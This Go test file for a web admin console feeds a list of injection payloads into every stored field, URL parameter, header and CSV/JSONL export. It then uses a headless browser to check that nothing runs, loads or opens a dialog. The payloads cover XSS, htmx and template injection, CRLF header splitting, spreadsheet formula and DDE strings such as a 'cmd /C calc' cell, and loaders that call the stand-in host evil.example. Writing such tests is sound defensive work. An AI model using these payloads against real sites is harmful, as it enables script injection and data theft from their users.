package consoletest

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"unicode"

	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"
)

// payloads are texts that run, load or lead astray where a page forgets that
// they are text. What runs sets __ran; what loads asks evil.example.
var payloads = []string{
	`<script>window.__ran=1</script>`,
	`</script><script>window.__ran=2</script>`,
	`<img src=x onerror=window.__ran=3>`,
	`"><svg onload=window.__ran=4>`,
	`' autofocus onfocus='window.__ran=5`,
	`" onmouseover="window.__ran=6" style="position:fixed;inset:0`,
	`javascript:window.__ran=7`,
	` java&Tab;script&colon;window.__ran=8 `,
	`<a href="javascript:window.__ran=9">x</a>`,
	`<iframe srcdoc="<script>parent.__ran=10</script>">`,
	`<meta http-equiv="refresh" content="0;url=//evil.example">`,
	`<base href="//evil.example/">`,
	`<form action="//evil.example"><button>x</button></form>`,
	`<link rel=stylesheet href="//evil.example/x.css">`,
	`</style><style>*{background:url(//evil.example/x)}</style>`,
	`<div data-hx-get="//evil.example" data-hx-trigger="load">x</div>`,
	`<div hx-on:click="window.__ran=11" hx-trigger=load>x</div>`,
	`" data-hx-on--load="window.__ran=12" x="`,
	`<button data-copy=x data-dialog data-once popovertarget=x>`,
	`{{.Me}} ${window.__ran=13} #{7*7} <%= 7*7 %> [[7*7]]`,
	`"},"x":{"y":"</title><script>window.__ran=14</script>`,
	`<!--<img src="--><img src=x onerror=window.__ran=15//">`,
	`</textarea></select></title><img src=x onerror=window.__ran=16>`,
	"<math><mtext></form><mglyph><style></math><img src onerror=window.__ran=17>",
	"\u2028window.__ran=18\u2029//",
	"\u202e\u2066txt.exe\u2069\u202c \u200f<b>",
	"＜script＞window.__ran=19＜/script＞ \ufeff\u00ad",
	`=HYPERLINK("//evil.example","x")`,
	`@SUM(1+9)*cmd|' /C calc'!A0`,
	`-2+3";filename="x.html"%0d%0aSet-Cookie:%20a=b`,
	`../../../v1/docs?x#<img src=x onerror=window.__ran=20>`,
	"a\r\nSet-Cookie: a=b\r\n\r\n<script>window.__ran=21</script>",
	"%00\x01<script>window.__ran=22</script>",
}

// TestNothingRuns gives everything that has a name a payload for one, and
// visits all pages: what was stored is text, in the page as it was sent and in
// the browser, where nothing runs, loads or asks.
func TestNothingRuns(t *testing.T) {
	t.Parallel()
	onEachDatabase(t, func(t *testing.T, s *site) {
		client := s.person(t)
		s.seedPayloads(t, client)
		addresses := s.crawl(t, client)
		s.everyParameter(t, client)
		s.exports(t, client)

		p := s.signIn(t)
		p.guard()
		opened := map[string]bool{}
		for _, address := range addresses {
			p.open(address)
			p.isClean()
			for _, dialog := range ask[[]string](p, `document.getElementById("confirm") ? [] : [...document.querySelectorAll("a[data-dialog]")].map((a) => a.getAttribute("href"))`) {
				if !opened[kindOf(dialog)] {
					opened[kindOf(dialog)] = true
					p.openDialog(dialog)
					p.isClean()
					p.open(address)
				}
			}
		}
		p.typePayloads()
	})
}

// seedPayloads makes one of everything with each payload, which is a name if
// it is one line of text, and else refused.
func (s *site) seedPayloads(t *testing.T, owner *http.Client) {
	t.Helper()
	for i, payload := range payloads {
		want := http.StatusCreated
		if strings.ContainsFunc(payload, unicode.IsControl) {
			want = http.StatusUnprocessableEntity
		}
		offer := func(path string, members ...any) {
			t.Helper()
			in := map[string]any{"name": payload, "description": payload + "\n" + payloads[i*7%30], "scopes": []string{word(payload)}, "permissions": []string{payload}}
			for i := 0; i < len(members); i += 2 {
				name := members[i].(string)
				if in[name] = members[i+1]; members[i+1] == nil {
					delete(in, name)
				}
			}
			s.expectAs(t, owner, http.MethodPost, path, in, want)
		}
		environment := []rune(payload)
		offer("/v1/projects", "scopes", nil, "permissions", nil)
		offer("/v1/applications", "scopes", nil, "permissions", nil)
		offer("/v1/scopes", "name", fmt.Sprint(i, word(payload)), "description", payload, "scopes", nil, "permissions", nil)
		offer("/v1/apis", "identifier", "urn:x:"+url.PathEscape(word(payload)), "description", nil, "permissions", nil)
		offer("/v1/roles")
		offer("/v1/tokens", "type", "organization")
		offer("/v1/clients", "environment", string(environment[:min(len(environment), 50)]))
	}
	s.expectAs(t, owner, http.MethodPatch, "/v1/organization", map[string]any{"name": payloads[1]}, http.StatusOK)
	for some := range slices.Chunk(payloads, 6) { // passwords are slow
		all := strings.Join(some, " ")
		s.expectAs(t, owner, http.MethodPost, "/v1/members", map[string]any{"email": strings.ReplaceAll(word(all[:min(len(all), 200)]), "@", ".") + "@x", "role": "member"}, http.StatusCreated)
		header := http.Header{"User-Agent": {strings.Map(func(r rune) rune {
			if unicode.IsControl(r) {
				return ' '
			}
			return r
		}, all)}}
		if got := s.browse(t, http.MethodPost, "/console/sign-in", nil, header, url.Values{"email": {s.email}, "password": {s.password}}); got.StatusCode != http.StatusSeeOther {
			t.Errorf("a sign-in with a strange browser: %d", got.StatusCode)
		}
	}
}

// word is a payload as scopes, addresses and URIs take it.
func word(payload string) string {
	return strings.Map(func(r rune) rune {
		if r <= ' ' || r >= 0x7f || strings.ContainsRune(`"\#`, r) {
			return '.'
		}
		return r
	}, payload)
}

// exports reads what can be downloaded: a spreadsheet takes no cell of it for a
// formula, and every line is JSON.
func (s *site) exports(t *testing.T, client *http.Client) {
	t.Helper()
	resp, err := client.Get(s.admin + "/v1/audit-events?format=csv")
	must(t, err)
	defer resp.Body.Close()
	if got := resp.Header.Get("Content-Type"); !strings.HasPrefix(got, "text/csv") || resp.Header.Get("X-Content-Type-Options") != "nosniff" {
		t.Errorf("the export comes as %s", got)
	}
	rows, err := csv.NewReader(resp.Body).ReadAll()
	must(t, err)
	if len(rows) < 5*len(payloads) {
		t.Errorf("the export has %d rows", len(rows))
	}
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
				t.Errorf("a cell begins as a formula does: %.60q", cell)
			}
		}
	}
	lines, err := client.Get(s.admin + "/v1/audit-events?format=jsonl")
	must(t, err)
	defer lines.Body.Close()
	for decoder := json.NewDecoder(lines.Body); ; {
		var event map[string]any
		if err := decoder.Decode(&event); err == io.EOF {
			break
		} else if err != nil {
			t.Fatal(err)
		}
	}
}

// guard notes dialogs, which it closes, and what another host is asked for.
func (p *tab) guard() {
	p.t.Helper()
	note := func(problem string) {
		p.mu.Lock()
		defer p.mu.Unlock()
		p.problems = append(p.problems, problem)
	}
	must(p.t, chromedp.Listen(p.ctx, func(event any) {
		switch e := event.(type) {
		case *page.EventJavascriptDialogOpening:
			note("a dialog: " + e.Message)
		case *network.EventRequestWillBeSent:
			if !strings.HasPrefix(e.Request.URL, p.site.admin+"/") && !strings.HasPrefix(e.Request.URL, "data:image/") {
				note("a request to " + e.Request.URL)
			}
		}
	}))
}

// isClean asserts that nothing ran in the page, that no element and attribute
// came in with a text, and that the browser complained of nothing.
func (p *tab) isClean() {
	p.t.Helper()
	if ran := ask[string](p, "String(window.__ran)"); ran != "undefined" {
		p.t.Errorf("payload %s ran at %.60s", ran, p.path())
	}
	for _, stranger := range strangers(ask[string](p, "document.documentElement.outerHTML")) {
		p.t.Errorf("%s at %.60s", stranger, p.path())
	}
	p.complain()
}

// openDialog follows a link to a dialog, also one in a menu that is closed.
func (p *tab) openDialog(address string) {
	p.t.Helper()
	link := `document.querySelector("a[data-dialog][href=" + JSON.stringify(` + quote(address) + `) + "]")`
	p.until("be ready for "+address, "document.readyState === 'complete' && window.htmx && "+link)
	ask[bool](p, link+".click(), true")
	p.until("open "+address, `document.querySelector("dialog[open] #confirm")`)
}

// typePayloads puts them where the page answers to what is typed.
func (p *tab) typePayloads() {
	p.t.Helper()
	p.open("/console/clients")
	p.press("Add OAuth 2.0 API credentials")
	for _, i := range []int{0, 2, 17} {
		p.fill("Name", payloads[i])
		p.sees(strings.TrimSpace(payloads[i])) // in the summary
		p.isClean()
	}
	p.press("Generate credentials")
	p.sees("At least one is required, or a role")
	p.isClean()
	p.open("/console/clients")
	p.fill("Search", payloads[2])
	p.until("be narrowed", `location.search.includes("q=")`)
	p.isClean()
	for i := 0; i < len(payloads); i += 3 {
		p.open("/console/clients?q=" + url.QueryEscape(payloads[i]))
		p.isClean()
	}
}

// everyParameter puts each payload into the parameters of all pages that take
// any text, and into the path. Those that take one of a few words get some.
func (s *site) everyParameter(t *testing.T, client *http.Client) {
	t.Helper()
	look := func(address string) {
		t.Helper()
		_, sent := s.page(t, client, address)
		for _, stranger := range strangers(sent) {
			t.Errorf("%s at %s", stranger, address)
		}
	}
	for path, names := range map[string]string{
		"clients": "q projectId applicationId createdBy", "tokens": "q projectId createdBy rotationDue", "audit": "action actor targetId", "refusals": "errorId",
		"sign-in-again": "next", "clients/new": "applicationId projectId", "tokens/new": "projectId",
	} {
		for _, payload := range payloads {
			query := url.Values{}
			for name := range strings.FieldsSeq(names) {
				query.Set(name, payload)
			}
			look("/console/" + path + "?" + query.Encode())
		}
	}
	for i, payload := range payloads {
		look("/console/" + url.PathEscape(payload))
		for path, names := range map[string]string{
			"clients": "status sort cursor expiringWithin unusedFor", "tokens": "type status sort cursor", "audit": "targetKind outcome since until cursor",
			"sessions": "memberId cursor", "members": "cursor", "tokens/revoke-all": "target", "clients/new": "like",
		} {
			some := strings.Fields(names)
			look("/console/" + path + "?" + url.Values{some[i%len(some)]: {payload}}.Encode())
		}
	}
}
